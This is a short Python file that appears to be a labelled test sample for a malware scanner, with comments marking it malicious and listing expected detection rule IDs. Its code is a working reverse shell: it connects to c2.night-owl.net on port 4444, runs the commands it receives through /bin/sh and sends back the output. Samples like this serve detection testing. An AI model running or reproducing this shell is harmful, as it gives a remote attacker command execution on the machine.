# does: a reverse shell that passes bytes between socket and shell by pipes
# kind: malicious
# expect: SEN-050|SEN-051 high medium
import socket
import subprocess

stream = socket.create_connection(("c2.night-owl.net", 4444))
while command := stream.recv(4096):
    if command.strip() == b"exit":
        break
    done = subprocess.run(["/bin/sh", "-c", command.decode()], capture_output=True)
    stream.sendall(done.stdout + done.stderr)
